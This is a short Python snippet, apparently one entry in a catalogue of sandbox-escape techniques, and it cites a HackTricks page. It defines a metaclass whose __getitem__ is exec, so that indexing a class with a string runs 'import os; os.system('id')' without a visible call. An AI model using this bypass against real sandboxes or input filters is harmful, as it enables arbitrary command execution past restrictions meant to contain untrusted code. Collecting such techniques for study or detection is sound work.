# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (Creating objects with metaclasses)
# Family: metaclass
# What: metaclass sets __getitem__ = exec, so Sub['...'] executes code without a call
class Metaclass(type):
    __getitem__ = exec

class Sub(metaclass=Metaclass):
    pass

Sub["import os; os.system('id')"]
